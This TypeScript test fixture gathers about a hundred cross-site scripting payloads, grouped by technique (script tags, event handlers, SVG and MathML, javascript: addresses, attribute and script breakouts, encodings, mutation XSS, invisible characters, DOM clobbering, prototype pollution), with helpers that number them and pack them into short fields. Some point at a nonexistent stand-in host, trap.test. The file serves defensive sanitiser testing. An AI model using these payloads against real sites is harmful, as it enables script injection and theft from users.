import { hasControlCharacters } from '#shared/text/control-characters.ts';

/** A request to this host proves that a payload was taken for markup; the host does not exist. */
export const TRAP = 'trap.test';

/** Payloads of attackers, by the hole that they aim at. `§` stands for the payload's number. */
const FAMILIES = {
  'script elements': [
    '<script>__xss(§)</script>',
    '<ScRiPt>__xss(§)</sCrIpT>',
    '<script src=//trap.test/§></script>',
    '<script/x>__xss(§)</script/x>',
    '<script type=module>__xss(§)</script>',
    '<scr<script>ipt>__xss(§)</scr</script>ipt>',
    '<svg><script>__xss&#40;§)</script>',
    '<script>/*<!--*/__xss(§)//--></script>',
    '<link rel=stylesheet href=//trap.test/§>',
    '<link rel=preload as=script href=//trap.test/§>',
  ],
  'event handlers': [
    '<img src=x onerror=__xss(§)>',
    '<img/src/onerror=__xss(§)>',
    '<IMG """><IMG SRC=x ONERROR="__xss(§)">',
    '<body onload=__xss(§)>',
    '<input autofocus onfocus=__xss(§)>',
    '<details open ontoggle=__xss(§)>x',
    '<video><source onerror=__xss(§)></video>',
    '<audio src=x onerror=__xss(§)>',
    '<style onload=__xss(§)></style>',
    '<iframe onload=__xss(§)></iframe>',
    '<p style="animation:spin" onanimationstart=__xss(§)>x',
    '<object data=x: onerror=__xss(§)></object>',
    '<a tabindex=1 autofocus onfocus=__xss(§)>x</a>',
    '<img src=x onerror=alert(§)>',
    '<img src=x onerror="location=\'//trap.test/§\'">',
  ],
  'SVG and MathML': [
    '<svg onload=__xss(§)>',
    '<svg/onload=__xss(§)//',
    '<svg><animate onbegin=__xss(§) attributeName=x dur=1s>',
    '<svg><set onbegin=__xss(§) attributeName=x>',
    '<svg><a href="javascript:__xss(§)"><text y=9>x</text></a>',
    '<svg><use href="data:image/svg+xml,<svg onload=__xss(§)>"/>',
    '<svg><foreignObject><img src=x onerror=__xss(§)></foreignObject>',
    '<svg><image href=//trap.test/§>',
    '<math href="javascript:__xss(§)">x</math>',
    '<math><mtext><img src=x onerror=__xss(§)></mtext></math>',
  ],
  'other documents': [
    '<iframe srcdoc="<script>parent.__xss(§)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.__xss(§)&gt;">',
    '<iframe src="javascript:parent.__xss(§)"></iframe>',
    '<iframe src="data:text/html,<script>alert(§)</script>">',
    '<iframe src=//trap.test/§></iframe>',
    '<embed src="javascript:__xss(§)">',
    '<object data="data:text/html,<script>alert(§)</script>">',
    '<meta http-equiv=refresh content="0;url=//trap.test/§">',
    '<base href=//trap.test/§/>',
    '<form action=//trap.test/§><button autofocus>x</button></form>',
  ],
  'addresses': [
    '<a href="javascript:__xss(§)">x</a>',
    '<a href=" &#1;java&#9;script:__xss(§)">x</a>',
    '<a href="java\nscript:__xss(§)">x</a>',
    '[x](javascript:__xss(§))',
    '![x](//trap.test/§)',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "§")',
    '<javascript:__xss(§)>',
    'javascript:__xss(§)',
    'https://trap.test/§',
    'JaVaScRiPt://%0a__xss(§)',
    'data:text/html,<script>alert(§)</script>',
    'vbscript:__xss(§)',
    '<form><button formaction="javascript:__xss(§)">x</button></form>',
  ],
  'ends of attributes': [
    '"><svg onload=__xss(§)>',
    "'><svg onload=__xss(§)>",
    '" autofocus onfocus=__xss(§) x="',
    "' autofocus onfocus='__xss(§)",
    '` onerror=`__xss(§)',
    '"onmouseover=__xss(§)//',
    '\\"><img src=x onerror=__xss(§)>',
    '--><img src=x onerror=__xss(§)><!--',
    ']]><svg onload=__xss(§)>',
    '"><!--<a title="--><img src=x onerror=__xss(§)>',
  ],
  'ends of texts and scripts': [
    '</script><script>__xss(§)</script>',
    '</title><svg onload=__xss(§)>',
    '</textarea><svg onload=__xss(§)>',
    '</style><svg onload=__xss(§)>',
    '</noscript><img src=x onerror=__xss(§)>',
    '";__xss(§);//',
    "';__xss(§);//",
    "\\';__xss(§);//",
    '${__xss(§)}',
    '`;__xss(§);//',
    '{{constructor.constructor("__xss(§)")()}}',
    '<%= __xss(§) %>',
    '\u2028__xss(§)\u2029//',
  ],
  'styles': [
    '<p style="width:expression(__xss(§))">x',
    '<p style="background:url(//trap.test/§)">x',
    '<style>@import "//trap.test/§";</style>',
    '<style>*{background:url(//trap.test/§)}</style>',
    'red;background:url(//trap.test/§)',
  ],
  'encodings': [
    '&lt;script&gt;__xss(§)&lt;/script&gt;',
    '&amp;lt;img src=x onerror=__xss(§)&amp;gt;',
    '%3Csvg onload=__xss(§)%3E',
    '%253Csvg%20onload=__xss(§)%253E',
    '\\u003csvg onload=__xss(§)\\u003e',
    '&#x3C;svg onload=__xss(§)&#x3E;',
    '+ADw-script+AD4-__xss(§)+ADw-/script+AD4-',
  ],
  'markup that changes when it is written again': [
    '<noscript><p title="</noscript><img src=x onerror=__xss(§)>">',
    '<svg></p><style><a title="</style><img src=x onerror=__xss(§)>">',
    '<math><mi><table><mglyph><style><img src=x onerror=__xss(§)>',
    '<xmp><p title="</xmp><img src=x onerror=__xss(§)>">',
    '<select><noembed></select><img src=x onerror=__xss(§)>',
  ],
  'signs that are not seen': [
    '<img src=x\u0000 onerror=__xss(§)>',
    '<\u0000script>__xss(§)</script>',
    '\u202e>(§)ssx__=daolno gvs<\u202c',
    '<svg\u000conload=__xss(§)>',
    '\u200b<svg\u2028onload=__xss(§)>\ufeff',
    '＜svg onload=__xss(§)＞ ʺ onload=__xss(§)',
  ],
  'names that mean something else': [
    '<img name=body id=§><img name=cookie>',
    '<form id=forms><input name=attributes value=§></form>',
    '<a id=__xss href=//trap.test/§></a><a id=__xss name=x>',
    '__proto__[x]=__xss(§)',
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<svg onload=__xss(§)>"}}}',
    'constructor.prototype.x=__xss(§)',
  ],
} as const;

/**
 * Every payload with its own number, so that a payload that runs identifies itself; those with characters that nobody
 * types are refused everywhere (shared/text/control-characters.ts) and never shown.
 */
export const PAYLOADS: readonly string[] = Object.values(FAMILIES)
  .flat()
  .filter((text) => !hasControlCharacters(text))
  .map((text, index) => text.replaceAll('§', String(index)));

/** All payloads in one text. */
export const ALL = PAYLOADS.join(' ');

/**
 * The payloads joined into few values of at most `max` characters; a longer payload is cut off, as an attacker with a
 * short field would do.
 */
export const packed = (max: number, texts = PAYLOADS): string[] => {
  const values: string[] = [];
  for (const text of texts.map((each) => each.slice(0, max)).toSorted((a, b) => b.length - a.length)) {
    const room = values.findIndex((value) => value.length + 1 + text.length <= max);
    if (room === -1) values.push(text);
    else values[room] += ` ${text}`;
  }
  return values;
};

/** The payloads in one value, cut at `max` characters; it begins with payload number `first`. */
export const joined = (max: number, first = 0): string => {
  const start = first % PAYLOADS.length;
  return [...PAYLOADS.slice(start), ...PAYLOADS.slice(0, start)].join(' ').slice(0, max);
};
